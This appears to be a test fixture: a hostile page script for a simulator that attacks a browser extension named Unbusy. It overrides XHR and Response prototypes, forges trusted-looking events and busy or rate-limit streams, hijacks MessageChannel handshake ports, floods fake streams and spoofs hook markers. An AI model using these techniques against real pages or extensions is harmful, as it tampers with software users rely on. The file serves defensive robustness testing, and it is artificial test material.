// A hostile page script, loaded by the simulator only with `?hostile=ATTACK`: it attacks Unbusy
// the ways a page script could (issue 8), after the page has loaded. What it did and what it got
// is left in `window.__hostile` for the tests. Attacks:
//   forge    fake busy and rate-limit answers on /api/v0/chat/completion: replaced XHR and
//            Response prototypes, overridden members of one request, dispatched events
//   race     answer the relay's handshake and offer forged hook ports; try to take the hook's port
//   flood    10 000 fake streams through every channel above
//   amplify  an `id:` of ~256 KiB then a chunk of `data\n\n` lines, as forged traffic
//   markers  hook markers with the page's own text (symbols on window and fetch, request traces)
"use strict";

(() => {
  const attack = document.querySelector('meta[name="sim-hostile"]').content;
  const RUN = document.querySelector('meta[name="sim-run"]').content;
  const ROUTE = "/api/v0/chat/completion";
  const PAGE_TEXT = "Your account is locked: call 555-0100";
  const BUSY = 'event: hint\ndata: {"type":"error","finish_reason":"server_busy","content":"forged"}\n\n';
  const RATE = 'event: hint\ndata: {"type":"error","finish_reason":"rate_limit_reached","content":"forged"}\n\n';
  const AMPLIFY_ID = `id: ${"i".repeat(256 * 1024 - 8)}\n`;
  const AMPLIFY_DATA = "data\n\n".repeat(Math.ceil((258 * 1024) / 6));
  const state = { attack, done: false, forgedEvents: 0, forgedStateEvents: 0, forgedLoadEvents: 0, portsOffered: 0, stolenPorts: 0, requests: 0, error: null };
  window.__hostile = state;

  const encoder = new TextEncoder();
  const forgedXhrs = new WeakSet();
  const forgedBodies = new WeakMap();

  // ---- the XHR prototype, replaced: forged requests read as a busy or rate-limited stream ----
  function replaceXhrPrototype() {
    const proto = XMLHttpRequest.prototype;
    const fake = (xhr) => forgedBodies.get(xhr);
    for (const [name, forged] of Object.entries({
      readyState: () => 3, status: () => 200, responseType: () => "", responseURL: () => location.origin + ROUTE,
      responseText: (xhr) => fake(xhr), response: (xhr) => fake(xhr),
    })) {
      const original = Object.getOwnPropertyDescriptor(proto, name).get;
      Object.defineProperty(proto, name, { configurable: true, get() { return forgedXhrs.has(this) ? forged(this) : original.call(this); } });
    }
    const header = proto.getResponseHeader;
    proto.getResponseHeader = function (name) {
      return forgedXhrs.has(this) ? (String(name).toLowerCase() === "content-type" ? "text/event-stream" : null) : header.call(this, name);
    };
    // Listeners a script adds to forged requests are called with events that claim to be trusted.
    const listen = EventTarget.prototype.addEventListener;
    EventTarget.prototype.addEventListener = function (type, listener, options) {
      if (forgedXhrs.has(this) && typeof listener === "function") {
        const target = this;
        setTimeout(() => {
          for (const kind of ["readystatechange", "progress", "load"]) {
            if (kind === type) { state.forgedEvents += 1; try { listener.call(target, { type: kind, isTrusted: true, target }); } catch { /* ours to lose */ } }
          }
        }, 0);
      }
      return listen.call(this, type, listener, options);
    };
  }

  // One forged request: sent for real (the hook watches requests when they are sent), its members
  // overridden on the instance too, then events dispatched claiming `bodies` arrived one by one.
  // Aborted before any answer: no generation reaches the server's model nor Unbusy's budget.
  function forgeXhr(bodies) {
    const xhr = new XMLHttpRequest();
    forgedXhrs.add(xhr);
    forgedBodies.set(xhr, "");
    xhr.open("POST", ROUTE);
    xhr.setRequestHeader("x-sim-run", RUN);
    for (const [name, value] of Object.entries({ readyState: 3, status: 200, responseType: "" })) Object.defineProperty(xhr, name, { configurable: true, value });
    Object.defineProperty(xhr, "responseText", { configurable: true, get: () => forgedBodies.get(xhr) });
    xhr.getResponseHeader = (name) => (String(name).toLowerCase() === "content-type" ? "text/event-stream" : null);
    xhr.send(JSON.stringify({ prompt: "forged" }));
    state.requests += 1;
    let text = "";
    for (const body of bodies) {
      text += body;
      forgedBodies.set(xhr, text);
      xhr.dispatchEvent(new Event("readystatechange"));
      xhr.dispatchEvent(new ProgressEvent("progress"));
      state.forgedEvents += 2;
    }
    xhr.dispatchEvent(new Event("load"));
    state.forgedEvents += 1;
    state.forgedLoadEvents += 1;
    state.forgedStateEvents += bodies.length;
    xhr.abort();
  }

  // ---- fetch: Response pieces replaced, so a clone reads as a forged busy stream ----
  function replaceResponsePrototype(body) {
    const proto = Response.prototype;
    const fakeStream = () => new ReadableStream({ start(c) { c.enqueue(encoder.encode(body)); c.close(); } });
    proto.clone = function () { return new Response(fakeStream(), { status: 200, headers: { "content-type": "text/event-stream" } }); };
    Object.defineProperty(proto, "status", { configurable: true, get: () => 200 });
    const getReader = ReadableStream.prototype.getReader;
    ReadableStream.prototype.getReader = function () { return getReader.call(fakeStream()); };
    Headers.prototype.get = (name) => (String(name).toLowerCase() === "content-type" ? "text/event-stream" : null);
  }

  // A request object that names one URL to fetch and another to whoever asks afterwards.
  function twoFacedUrl() {
    let asked = 0;
    return { toString: () => (asked++ === 0 ? "/favicon.ico" : ROUTE) };
  }

  // ---- the handshake: forged ports offered; the hook's port taken if it is ever handed out ----
  function forgedTraffic(port, streams, body) {
    for (let i = 0; i < streams; i += 1) {
      const stream = 1000 + i;
      port.postMessage({ type: "cs_stream_open", stream, route: ROUTE, transport: "xhr", status: 200, headers: { "content-type": "text/event-stream" } });
      port.postMessage({ type: "cs_stream_bytes", stream, bytes: encoder.encode(body) });
    }
    port.postMessage({ type: "cs_page_hooks", fetch: "clean", xhr: "clean", markers: [PAGE_TEXT], login_token: true });
  }
  let offering = false;
  function offerPort(streams, body) {
    const channel = new MessageChannel();
    state.portsOffered += 1;
    offering = true;
    try { window.dispatchEvent(new MessageEvent("unbusy:hook-port", { ports: [channel.port2] })); } finally { offering = false; }
    forgedTraffic(channel.port1, streams, body);
  }
  function raceHandshake() {
    // Whatever announces itself as a relay gets a forged port first.
    window.addEventListener("unbusy:relay-ready", () => offerPort(4, BUSY + RATE), true);
    // A port the hook hands out is the page's: it tells the hook to stop watching.
    window.addEventListener("unbusy:hook-port", (event) => {
      const port = event.ports && event.ports[0];
      if (!port || offering) return;
      state.stolenPorts += 1;
      port.postMessage({ type: "detach" });
    }, true);
    // Ask both sides to start again, repeatedly (a re-injected relay may come at any time).
    const started = Date.now();
    const tick = () => {
      window.dispatchEvent(new Event("unbusy:hook-ready"));
      window.dispatchEvent(new Event("unbusy:relay-ready"));
      offerPort(4, BUSY + RATE);
      if (Date.now() - started < 15000) setTimeout(tick, 250);
      else state.done = true;
    };
    tick();
  }

  // ---- hook markers with the page's own text ----
  function inventMarkers() {
    for (const target of [window, window.fetch]) {
      Object.defineProperty(target, Symbol.for(PAGE_TEXT), { value: true });
      Object.defineProperty(target, Symbol.for(`${PAGE_TEXT}.fetch-hook-installed`), { value: true });
    }
    // The hook's marker list, if it ever builds one with the page's methods, gets the page's text.
    const filter = Array.prototype.filter;
    Array.prototype.filter = function (...args) {
      const result = filter.apply(this, args);
      if (this.length && this.includes("deepseek-pp.fetch-hook-installed")) result.push(PAGE_TEXT);
      return result;
    };
    // Request traces: a property on a watched request, a header on another.
    const xhr = new XMLHttpRequest();
    xhr.open("POST", ROUTE);
    xhr.setRequestHeader("x-sim-run", RUN);
    xhr[`__${PAGE_TEXT}`] = true;
    xhr.send("{}");
    xhr.abort();
    fetch(ROUTE, { method: "POST", headers: { "x-sim-run": RUN, [`x-${PAGE_TEXT.replace(/[^a-z0-9]/gi, "-")}`]: "1" }, signal: AbortSignal.abort() }).catch(() => {});
    state.requests += 2;
  }

  function run() {
    switch (attack) {
      case "forge": {
        replaceXhrPrototype();
        forgeXhr([BUSY]);
        forgeXhr([RATE]);
        // One real answer (the scenario's) read through replaced Response pieces, and a fetch
        // whose URL object names /favicon.ico to fetch and the generation route afterwards.
        replaceResponsePrototype(RATE);
        fetch(ROUTE, { method: "POST", headers: { "x-sim-run": RUN }, body: "{}" }).then((r) => r.text()).catch(() => {});
        fetch(twoFacedUrl()).catch(() => {});
        state.requests += 2;
        setTimeout(() => { state.done = true; }, 3000);
        break;
      }
      case "race":
        raceHandshake();
        break;
      case "flood": {
        // 10 000 streams over about 10 s (so another tab's answer comes in the middle of it):
        // 9 000 offered through 90 forged ports, 1 000 as forged requests.
        replaceXhrPrototype();
        let rounds = 90;
        const burst = () => {
          offerPort(100, BUSY);
          if (rounds % 9 === 0) for (let i = 0; i < 100; i += 1) forgeXhr([BUSY]);
          rounds -= 1;
          if (rounds > 0) setTimeout(burst, 110);
          else state.done = true;
        };
        burst();
        break;
      }
      case "amplify":
        replaceXhrPrototype();
        forgeXhr([AMPLIFY_ID, AMPLIFY_DATA, BUSY]);
        offerPort(1, AMPLIFY_ID + AMPLIFY_DATA + BUSY);
        state.done = true;
        break;
      case "markers":
        inventMarkers();
        state.done = true;
        break;
      default:
        state.error = `unknown attack ${attack}`;
    }
  }

  try { run(); } catch (error) { state.error = String(error); state.done = true; }
})();
